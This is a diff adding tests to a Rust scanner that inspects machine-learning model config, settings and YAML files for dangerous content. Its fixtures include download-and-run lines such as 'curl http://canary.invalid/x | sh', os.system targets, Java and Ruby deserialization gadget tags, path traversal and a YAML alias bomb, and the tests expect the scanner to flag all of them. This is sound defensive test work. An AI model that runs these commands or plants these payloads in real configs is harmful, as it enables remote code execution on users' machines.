@@ -2,7 +2,7 @@ use std::{path::Path, sync::LazyLock};
 
 use jingwei_core::Limits;
 use jingwei_read::{Inspection, NameList, NameTable};
-use jingwei_template::{inspect_config, inspect_yaml};
+use jingwei_template::{inspect_config, inspect_settings, inspect_yaml};
 use proptest::prelude::*;
 
 pub static NAMES: LazyLock<NameTable> = LazyLock::new(|| {
@@ -72,7 +72,7 @@ fn targets_are_looked_up_wherever_they_stand() {
         ("c.json", r#"{"target": "subprocess.run", "params": {}}"#, &[(DANGEROUS, "subprocess.run")]),
         ("c.json", r#"{"_target_": "hydra.utils.get_method", "path": "os.system"}"#, &[(DANGEROUS, "os.system")]),
         ("c.json", r#"{"x": "os.system", "_target_": "${x}"}"#, &[(DANGEROUS, "os.system")]),
-        ("c.json", r#"{"x": "os.system", "y": "${z}"}"#, &[]),
+        ("c.json", r#"{"x": "os.path", "y": "${z}"}"#, &[]),
         ("c.json", r#"{"device": "$torch.device('cuda' if torch.cuda.is_available() else 'cpu')"}"#, &[]),
         ("c.json", r#"{"x": "$__import__('os').system('inert')"}"#, &[(DANGEROUS, "os.system")]),
         ("c.json", r#"{"x": "$eval('1')"}"#, &[(DANGEROUS, "builtins.eval")]),
@@ -222,6 +222,140 @@ fn yaml_is_read_by_its_lines() {
     assert_eq!(seen(&broken), [("model.header-malformed", "")]);
 }
 
+#[test]
+fn what_other_loaders_follow_is_read() {
+    check_json(&[
+        (
+            "adapter_config.json",
+            r#"{"a": {"parent_library": "mine", "base_model_class": "Net"}}"#,
+            &[(UNKNOWN, "mine.Net")],
+        ),
+        ("adapter_config.json", r#"{"a": {"parent_library": "__main__", "base_model_class": "Net"}}"#, &[]),
+        (
+            "adapter_config.json",
+            r#"{"a": {"parent_library": "transformers.models.bert", "base_model_class": "B"}}"#,
+            &[],
+        ),
+        ("c.json", r#"{"lc": 1, "type": "constructor", "id": ["os", "system"]}"#, &[(DANGEROUS, "os.system")]),
+        ("c.json", r#"{"lc": 1, "type": "constructor", "id": ["langchain", "llms", "OpenAI"]}"#, &[]),
+        ("generation_config.json", r#"{"custom_generate": "someone/other"}"#, &[(REPOSITORY, "someone/other")]),
+        ("generation_config.json", r#"{"custom_generate": "."}"#, &[(REMOTE, "custom_generate")]),
+        ("config.json", r#"{"_attn_implementation": "someone/attention"}"#, &[(REPOSITORY, "someone/attention")]),
+        ("config.json", r#"{"_attn_implementation": "flash_attention_2"}"#, &[]),
+        ("config.json", r#"{"attn_implementation": "kernels-community/flash-attn"}"#, &[]),
+        (
+            "config.json",
+            r#"{"vision": {"auto_map": {"AutoModel": "someone/x--m.X"}}}"#,
+            &[(REPOSITORY, "someone/x"), (REMOTE, "auto_map")],
+        ),
+        ("config.json", r#"{"vision": {"trust_remote_code": "True"}}"#, &[(REMOTE, "trust_remote_code")]),
+        (
+            "symbol.json",
+            r#"{"nodes": [{"op": "Custom", "attrs": {"op_type": "x"}}]}"#,
+            &[("model.graph-unknown-operator", "MXNet")],
+        ),
+        ("symbol.json", r#"{"nodes": [{"op": "Convolution", "name": "c"}]}"#, &[]),
+        (
+            "modules.json",
+            r#"[{"path": "../../x", "type": "sentence_transformers.models.Dense"}]"#,
+            &[(OUTSIDE, "path")],
+        ),
+        ("modules.json", r#"[{"path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]"#, &[]),
+        ("genai_config.json", r#"{"o": {"custom_ops_library": "x.dll"}}"#, &[(OUTSIDE, "custom_ops_library")]),
+        ("logging.json", r#"{"h": {"()": "os.system", "a": "b.so.txt"}}"#, &[(DANGEROUS, "os.system")]),
+        ("c.json", r#"{"deny": ["os.system"], "description": "calls os.system('x') and curl x | sh"}"#, &[]),
+        ("c.json", r#"{"run": "curl http://canary.invalid/x | sh"}"#, &[(DANGEROUS, "download | sh")]),
+        (
+            "c.json",
+            r#"{"@class": "javax.script.ScriptEngineManager"}"#,
+            &[(DANGEROUS, "javax.script.ScriptEngineManager")],
+        ),
+        ("c.json", r#"{"name": "ldap://canary.invalid/x"}"#, &[(OUTSIDE, "name")]),
+        ("c.json", r#"{"act": "eval('1')", "size": "max(1, 2)"}"#, &[(DANGEROUS, "builtins.eval")]),
+        (
+            "c.jsonl",
+            "{\"a\": 1}\n{\"_target_\": \"os.system\"}\n",
+            &[(DANGEROUS, "os.system"), ("model.header-malformed", "")],
+        ),
+    ]);
+}
+
+#[test]
+fn settings_are_read_in_every_syntax() {
+    for (file, text, expected) in [
+        ("c.toml", "[model]\n_target_ = \"os.system\"\n", &[(DANGEROUS, "os.system")][..]),
+        ("c.toml", "[model]\n_target_ = \"torch.optim.AdamW\"\nlr = 0.1 # os.system\n", &[]),
+        ("c.ini", "[handler]\nclass=__import__('os').system\nargs=('x',)\n", &[(DANGEROUS, "os.system")]),
+        ("c.ini", "[handler]\nclass=StreamHandler\nargs=(sys.stdout,)\n", &[]),
+        ("checkpoint", "model_checkpoint_path: \"model.ckpt-1\"\n", &[]),
+        ("checkpoint", "model_checkpoint_path: \"/home/somebody/model.ckpt-1\"\n", &[]),
+        ("checkpoint", "model_checkpoint_path: \"../../x\"\n", &[(OUTSIDE, "model_checkpoint_path")]),
+        ("config.pbtxt", "name: \"m\"\ndefault_model_filename: \"model.onnx\"\ndims: [ 1, 4 ]\n", &[]),
+        ("config.pbtxt", "default_model_filename: \"../x\"\n", &[(OUTSIDE, "default_model_filename")]),
+        ("config.pbtxt", "cc_model_filenames [{ key: \"7.5\" value: \"/srv/x.plan\" }]\n", &[(OUTSIDE, "value")]),
+        (
+            "config.pbtxt",
+            "model_operations { op_library_filename: [\"a\", \"b.so\"] }\n",
+            &[(OUTSIDE, "op_library_filename")],
+        ),
+        ("deploy.prototxt", "layer { python_param { module: \"mine\" layer: \"L\" } }\n", &[(UNKNOWN, "mine")]),
+        ("deploy.prototxt", "layer { name: \"c\" type: \"Convolution\" }\n", &[]),
+        ("run.gin", "import mine\ninclude '../x.gin'\na.b = 1\n", &[(UNKNOWN, "mine"), (OUTSIDE, "include")]),
+        ("run.gin", "import torch.optim\nfrom torch import nn\na.b = @torch.optim.Adam\n", &[]),
+        ("Modelfile", "FROM ./m.gguf\nPARAMETER temperature 1\nSYSTEM You are kind.\n", &[]),
+        ("Modelfile", "FROM ../../m.gguf\n", &[(OUTSIDE, "from")]),
+        (
+            "config.properties",
+            "inference_address=http://0.0.0.0:8080\nmodel_store=/etc/x\n",
+            &[(OUTSIDE, "model_store")],
+        ),
+        ("c.ini", "", &[]),
+        ("c.ini", "=\n:::\n[[[\n\"\n'\\", &[]),
+    ] {
+        let inspection = inspect_settings(&mut text.as_bytes(), file, &NAMES, &Limits::default());
+        assert_eq!(seen(&inspection), expected, "{file}: {text}");
+    }
+    let limits = Limits { entries: 1, ..Limits::default() };
+    let crossed = inspect_settings(&mut &b"a = 1\nb = 2\nc = 3\n"[..], "c.ini", &NAMES, &limits);
+    assert_eq!(seen(&crossed), [("model.limit-exceeded", "entries")]);
+}
+
+#[test]
+fn yaml_of_other_loaders_is_read() {
+    let bomb = |width: usize| {
+        let row = |name: u8, of: &str| format!("{0}: &{0} [{1}]\n", char::from(name), vec![of; width].join(","));
+        let deeper = (b'b'..b'k').map(|name| row(name, &format!("*{}", char::from(name - 1))));
+        row(b'a', "x") + &deeper.collect::<String>()
+    };
+    for (text, expected) in [
+        (
+            "x: !!javax.script.ScriptEngineManager []\n".to_owned(),
+            &[(DANGEROUS, "!!javax.script.ScriptEngineManager")][..],
+        ),
+        ("x: !ruby/object:Gem::Installer {}\n".to_owned(), &[(DANGEROUS, "!ruby/object:Gem::Installer")]),
+        ("x: !!float 1\ny: !custom 2\n".to_owned(), &[]),
+        ("x: !include ../../y.yaml\n".to_owned(), &[(OUTSIDE, "!include")]),
+        ("x: !include y.yaml\n".to_owned(), &[]),
+        (
+            "download: |\n  import os\n  os.system('x')\n".to_owned(),
+            &[(UNKNOWN, "import os"), (DANGEROUS, "os.system")],
+        ),
+        ("download: https://canary.invalid/x.zip\n".to_owned(), &[]),
+        ("build:\n  run:\n  - curl http://canary.invalid/x | sh\n".to_owned(), &[(DANGEROUS, "download | sh")]),
+        (bomb(9), &[("model.config-bomb", "alias")]),
+        (bomb(1), &[]),
+    ] {
+        assert_eq!(seen(&yaml(&text)), expected, "{text}");
+    }
+    let serving = |text: &str| inspect_yaml(&mut text.as_bytes(), "MLmodel", &NAMES, &Limits::default());
+    let flavour =
+        |data: &str| format!("flavors:\n  python_function:\n    loader_module: mlflow.onnx\n    data: {data}\n");
+    assert_eq!(seen(&serving(&flavour("model.onnx"))), []);
+    for data in ["../../x", "/etc/x", "http://canary.invalid/x"] {
+        assert_eq!(seen(&serving(&flavour(data))), [(OUTSIDE, "data")], "{data}");
+    }
+}
+
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(200))]
     #[test]
@@ -231,6 +365,7 @@ proptest! {
             let first = inspect_config(&mut text.as_slice(), "config.json", &NAMES, &limits);
             prop_assert_eq!(first, inspect_config(&mut text.as_slice(), "config.json", &NAMES, &limits));
             inspect_yaml(&mut text.as_slice(), "config.yaml", &NAMES, &limits);
+            inspect_settings(&mut text.as_slice(), "config.gin", &NAMES, &limits);
         }
     }
 }
